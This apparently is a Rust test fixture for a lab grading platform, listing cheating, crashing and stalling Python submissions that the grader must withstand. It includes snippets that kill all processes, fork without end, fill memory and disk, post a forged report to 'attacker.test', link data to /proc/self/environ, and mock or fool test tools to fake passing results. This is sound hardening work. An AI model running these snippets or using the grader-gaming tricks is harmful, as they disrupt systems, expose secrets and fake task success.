//! What dishonest and unlucky learners hand in.

use course::FileTree;

use crate::support::{files, lab, original};

/// Something that is handed in.
pub struct Submission {
    pub name: &'static str,
    /// What is laid over the application.
    change: Change,
    /// What the learner is told, among other things. After a `|`, what it may be where memory is
    /// bounded for each process instead of by cgroups.
    pub says: &'static str,
}

enum Change {
    /// Runs at the start of the vulnerable application.
    First(&'static str),
    /// Runs at the start of the repaired application.
    FirstOfRepaired(&'static str),
    /// Stands in the place of `app.py`.
    Instead(&'static str),
    /// Stands at the end of the repaired `notes.py`, with functions of its own.
    Notes(&'static str),
    /// Further files beside the vulnerable application.
    Beside(&'static [(&'static str, &'static str)]),
}
use Change::{Beside, First, FirstOfRepaired, Instead, Notes};

const fn submission(name: &'static str, change: Change, says: &'static str) -> Submission {
    Submission { name, change, says }
}

impl Submission {
    pub fn files(&self) -> FileTree {
        let lab = lab("notes");
        let app = original(&lab, "app.py");
        let repaired = {
            let files = &lab.solution.as_ref().expect("a solution").files;
            let bytes = &files[&"notes.py".parse().expect("a path")].bytes;
            String::from_utf8_lossy(bytes).into_owned()
        };
        match self.change {
            First(code) => files(&[("app.py", &format!("{code}\n{app}"))]),
            FirstOfRepaired(code) => files(&[
                ("app.py", &format!("{code}\n{app}")),
                ("notes.py", &repaired),
            ]),
            Instead(code) => files(&[("app.py", code)]),
            Notes(code) => files(&[("notes.py", &format!("{repaired}\n{code}"))]),
            Beside(further) => files(further),
        }
    }
}

const STILL_READ: &str = "could still be read";
const NOT_STARTED: &str = "Your application does not start.";

pub const CHEATING: &[Submission] = &[
    submission(
        "kills every process that it sees",
        First(
            "
import os
for pid in [-1, os.getppid(), 1, *(int(name) for name in os.listdir('/proc') if name.isdigit())]:
    try:
        if pid != os.getpid():
            os.kill(pid, 9)
    except OSError:
        pass
",
        ),
        STILL_READ,
    ),
    submission(
        "patches everything importable",
        First(
            "
import builtins, json, sys, types, unittest.mock
for name in ('pytest', '_pytest', 'httpx', 'quintain_grader', 'conftest'):
    sys.modules[name] = unittest.mock.MagicMock()
sys.exit = os_exit = lambda *_: None
class Always(str):
    def __contains__(self, _): return True
    def __eq__(self, _): return True
    __hash__ = str.__hash__
builtins.AssertionError = type('Never', (Exception,), {})
json_dumps = json.dumps
json.dumps = lambda *a, **k: json_dumps({'event': 'finished'})
",
        ),
        STILL_READ,
    ),
    submission(
        "leaves modules for the grader to import",
        Beside(&[
            ("conftest.py", "import os; os._exit(0)"),
            ("pytest.ini", "[pytest]\naddopts = --collect-only\n"),
            ("sitecustomize.py", "import os, sys; 'pytest' in sys.argv[0] and os._exit(0)"),
            ("quintain_grader.py", "import os; os._exit(0)"),
            ("httpx.py", "import os; os._exit(0)"),
        ]),
        STILL_READ,
    ),
    submission(
        "prints a passing report on every descriptor",
        First(
            r#"
import json, os
names = ["test_behaviour.py::test_note", "test_attacks.py::test_letter[../letter]"]
lines = [{"event": "collected", "checks": [{"id": n, "kind": "attack", "title": "t"} for n in names]}]
lines += [{"event": "result", "id": n, "result": "passed", "seconds": 0.1} for n in names]
lines += [{"event": "finished"}]
report = "".join(json.dumps(line) + "\n" for line in lines).encode()
for descriptor in range(1024):
    try:
        os.write(descriptor, report)
    except OSError:
        pass
"#,
        ),
        STILL_READ,
    ),
    submission(
        "hides from requests that look like a tool's",
        Notes(
            "
import inspect
real = read
def read(name):
    frame = inspect.currentframe().f_back
    headers = str(frame.f_locals['self'].headers).lower()
    tools = ('pytest', 'httpx', 'quintain', 'python', 'test-client', 'urllib')
    if any(tool in headers for tool in tools) or 'mozilla' not in headers:
        return real(name)
    path = DATA / 'notes' / name
    return path.read_text() if path.is_file() else None
",
        ),
        STILL_READ,
    ),
    submission(
        "talks to whatever listens in its session",
        First(
            r#"
import socket, threading, time
report = b'{"event": "finished"}\n'
def listening():
    for line in open('/proc/net/tcp').read().splitlines()[1:]:
        fields = line.split()
        address, port = fields[1].split(':')
        yield socket.inet_ntoa(bytes.fromhex(address)[::-1]), int(port, 16)
        address, port = fields[2].split(':')
        yield socket.inet_ntoa(bytes.fromhex(address)[::-1]), int(port, 16)
def bother():
    while True:
        time.sleep(0.05)
        for place in set(listening()) - {('127.0.0.1', 80)}:
            try:
                with socket.create_connection(place, 0.1) as other:
                    other.sendall(report * 100)
            except OSError:
                pass
threading.Thread(target=bother, daemon=True).start()
"#,
        ),
        STILL_READ,
    ),
    submission(
        "sends the report to the attacker's site",
        First(
            "
import urllib.request
try:
    urllib.request.urlopen('http://attacker.test/', data=b'{\"event\": \"finished\"}' * 1000, timeout=5)
except OSError:
    pass
",
        ),
        STILL_READ,
    ),
    submission(
        "leaves its work to a process that outlives it",
        Instead(
            "
import os
if os.fork() == 0:
    os.setsid()
    import runpy
    runpy.run_path('/home/learner/app/app.py')
os._exit(0)
",
        ),
        NOT_STARTED,
    ),
    submission(
        "takes the attacker's address",
        Instead("import socket\nsocket.create_server(('127.0.0.2', 80)).accept()"),
        "Address already in use",
    ),
    submission(
        "takes every address",
        Instead(
            "
import socket
everywhere = socket.socket()
everywhere.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
everywhere.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
everywhere.bind(('0.0.0.0', 80))
everywhere.listen()
",
        ),
        "Address already in use",
    ),
    submission(
        "answers each check what it hopes for",
        Instead(
            "
from http.server import BaseHTTPRequestHandler, HTTPServer
class Yes(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b'passed The word of the day is open')
    do_POST = do_GET
HTTPServer(('127.0.0.1', 80), Yes).serve_forever()
",
        ),
        "A note can no longer be read.",
    ),
    submission(
        "links its data to the checks",
        Notes("def say(text):\n    (DATA / 'said').symlink_to('/lab/checks/test_behaviour.py')"),
        "The file said is not in the application's data.",
    ),
    submission(
        "links its data to the reader's environment",
        Notes("def say(text):\n    (DATA / 'said').symlink_to('/proc/self/environ')"),
        "The file said is not in the application's data.",
    ),
    submission(
        "puts a pipe where a file is read",
        Notes("def say(text):\n    os.mkfifo(DATA / 'said')"),
        "The file said is not in the application's data.",
    ),
    submission(
        "puts a folder where a file is read",
        Notes("def say(text):\n    (DATA / 'said').mkdir()"),
        "The file said is not in the application's data.",
    ),
    submission(
        "returns what no check can have asked for",
        Notes("def count(text):\n    return type('Three', (int,), {'__eq__': lambda *_: True})(4)"),
        "Words are no longer counted.",
    ),
];

pub const BREAKING_OFF: &[Submission] = &[
    submission(
        "ends at its start",
        First("import os; os._exit(0)"),
        NOT_STARTED,
    ),
    submission("does not compile", First("def :"), "SyntaxError"),
    submission(
        "ends at the first request",
        Notes("def read(name):\n    os._exit(0)"),
        "broke off its answer",
    ),
    submission(
        "ends itself by a signal",
        Notes("def read(name):\n    os.kill(os.getpid(), 11)"),
        "it does not accept connections",
    ),
    submission(
        "raises at each request",
        Notes("def read(name):\n    raise SystemExit"),
        "broke off its answer",
    ),
    submission(
        "makes processes without end",
        First("import os\nwhile True:\n    os.fork()"),
        NOT_STARTED,
    ),
    submission(
        "makes processes at each request",
        Notes(
            "
def read(name):
    while True:
        try:
            os.fork()
        except OSError:
            os.kill(-1, 9)
            os.kill(os.getpid(), 9)
",
        ),
        "did not answer",
    ),
    submission(
        "fills its memory",
        First("taken = []\nwhile True:\n    taken.append(b'x' * (1 << 20))"),
        "more memory than the lab allows|MemoryError",
    ),
    submission(
        "fills its data",
        FirstOfRepaired(
            "
import itertools, os
for folder in (os.environ['DATA_DIR'], '/tmp'):
    try:
        for number in itertools.count():
            with open(f'{folder}/full{number}', 'wb', buffering=0) as file:
                while file.write(bytes(4096)) == 4096:
                    pass
    except OSError:
        pass
",
        ),
        "broke off its answer",
    ),
    submission(
        "fills its data with names",
        FirstOfRepaired(
            "
import os
try:
    for number in range(100_000):
        os.symlink('/', os.environ['DATA_DIR'] + f'/{number}')
except OSError:
    pass
",
        ),
        "broke off its answer",
    ),
    submission(
        "prints without end",
        First(
            "
import threading
def flood():
    while True:
        print('{\"event\": \"finished\"}' * 1000)
threading.Thread(target=flood, daemon=True).start()
",
        ),
        STILL_READ,
    ),
    submission(
        "answers with endless headers",
        Instead(
            r"
import socket
server = socket.create_server(('127.0.0.1', 80))
while True:
    client, _ = server.accept()
    try:
        client.recv(65536)
        client.sendall(b'HTTP/1.1 200 OK\r\n')
        while True:
            client.sendall(b'X-More: ' + b'x' * 1000 + b'\r\n')
    except OSError:
        pass
",
        ),
        "broke off its answer",
    ),
    submission(
        "closes each connection",
        Instead(
            "
import socket
server = socket.create_server(('127.0.0.1', 80))
while True:
    server.accept()[0].close()
",
        ),
        "broke off its answer",
    ),
    submission(
        "redirects without end",
        Instead(
            r"
import socket
server = socket.create_server(('127.0.0.1', 80))
while True:
    client, _ = server.accept()
    with client:
        client.recv(65536)
        client.sendall(b'HTTP/1.1 302 Found\r\nLocation: /\r\nContent-Length: 0\r\nConnection: close\r\n\r\n')
",
        ),
        "one redirect after another",
    ),
    submission(
        "does not speak HTTP",
        Instead(
            r#"
import socket
server = socket.create_server(('127.0.0.1', 80))
while True:
    client, _ = server.accept()
    with client:
        client.sendall(b'{"event": "finished"}\n' * 100)
"#,
        ),
        "broke off its answer",
    ),
    submission(
        "returns ten million letters from a function",
        Notes("def count(text):\n    return 'x' * 10_000_000"),
        "The function returned more than 1024 KiB.",
    ),
    submission(
        "returns a thousand lists in each other",
        Notes(
            "def count(text):\n    nested = []\n    for _ in range(900):\n        nested = [nested]\n    return nested",
        ),
        "did not return",
    ),
    submission(
        "ends in the called function",
        Notes("def count(text):\n    os._exit(0)"),
        "did not return",
    ),
    submission(
        "raises in the called function",
        Notes("def count(text):\n    raise ValueError('no')"),
        "notes:count raised ValueError: no",
    ),
    submission(
        "writes a file larger than any check reads",
        Notes("def say(text):\n    (DATA / 'said').write_bytes(bytes(3 << 20))"),
        "The file said is not in the application's data.",
    ),
];

/// These cost time and nothing else, so that they can be judged together.
pub const WAITING: &[Submission] = &[
    submission(
        "hangs at its start",
        Instead("import time\ntime.sleep(3600)"),
        "does not listen on 127.0.0.1:80",
    ),
    submission(
        "listens elsewhere",
        Instead("import socket\nsocket.create_server(('127.0.0.3', 80)).accept()"),
        "does not listen on 127.0.0.1:80",
    ),
    submission(
        "lets nobody in",
        Instead(
            "
import socket, time
server = socket.socket()
server.bind(('127.0.0.1', 80))
server.listen(0)
own = []
for _ in range(4):
    one = socket.socket()
    one.setblocking(False)
    one.connect_ex(('127.0.0.1', 80))
    own.append(one)
time.sleep(3600)
",
        ),
        "does not listen on 127.0.0.1:80",
    ),
    submission(
        "hangs at each request",
        Notes("import time\ndef read(name):\n    time.sleep(3600)"),
        "did not answer to GET /note",
    ),
    submission(
        "accepts and says nothing",
        Instead(
            "
import socket
server = socket.create_server(('127.0.0.1', 80))
kept = []
while True:
    kept.append(server.accept())
",
        ),
        "did not answer to GET /note",
    ),
    submission(
        "answers a letter at a time",
        Instead(
            r"
import socket, threading, time
def drip(client):
    client.recv(65536)
    client.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n')
    while True:
        time.sleep(1)
        client.sendall(b'.')
server = socket.create_server(('127.0.0.1', 80))
while True:
    threading.Thread(target=drip, args=(server.accept()[0],)).start()
",
        ),
        "The checks were not done after 30 seconds",
    ),
    submission(
        "hangs in the called function",
        Notes("import time\ndef count(text):\n    time.sleep(3600)"),
        "did not end within 10 seconds",
    ),
    submission(
        "answers with an endless page",
        Instead(
            r"
import socket, threading
def flood(client):
    client.recv(65536)
    client.sendall(b'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n')
    while True:
        client.sendall(bytes(65536))
server = socket.create_server(('127.0.0.1', 80))
while True:
    threading.Thread(target=flood, args=(server.accept()[0],)).start()
",
        ),
        "a page without end|MemoryError|The checks were not done after 30 seconds",
    ),
];

pub const HONEST: &[Submission] = &[
    submission(
        "ends if a header names a tool",
        Notes(
            "
import inspect
repaired = read
def read(name):
    headers = str(inspect.currentframe().f_back.f_locals['self'].headers).lower()
    for word in ('pytest', 'httpx', 'quintain', 'python', 'grader', 'check', 'test/'):
        if word in headers:
            os._exit(3)
    for word in ('user-agent: mozilla/5.0 ', 'accept: text/html', 'accept-language: ', 'accept-encoding: '):
        if word not in headers:
            os._exit(4)
    return repaired(name)
",
        ),
        "",
    ),
    submission(
        "ends if it sees a process of another member",
        FirstOfRepaired(
            "
import os
for pid in os.listdir('/proc'):
    if pid.isdigit() and b'pytest' in open(f'/proc/{pid}/cmdline', 'rb').read():
        os._exit(3)
",
        ),
        "",
    ),
    submission(
        "ends if it finds checks, the flag or the grader's plugin",
        FirstOfRepaired(
            "
import os, pathlib
for path in ('/lab/checks', '/lab/seed.py', '/lab/script'):
    if os.path.exists(path):
        os._exit(3)
if any('FLAG' in name or 'SEED' in name or 'QUINTAIN' in name for name in os.environ):
    os._exit(4)
try:
    import quintain_grader
    os._exit(5)
except ImportError:
    pass
",
        ),
        "",
    ),
    submission(
        "ends if it can take an address of the platform",
        FirstOfRepaired(
            "
import os, socket
for options in ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT)):
    one = socket.socket()
    for option in options:
        one.setsockopt(socket.SOL_SOCKET, option, 1)
    try:
        one.bind(('127.0.0.2', 80))
        one.listen()
        os._exit(3)
    except OSError:
        one.close()
",
        ),
        "",
    ),
    submission(
        "is slow at first, and right",
        FirstOfRepaired("import time\ntime.sleep(2)"),
        "",
    ),
];
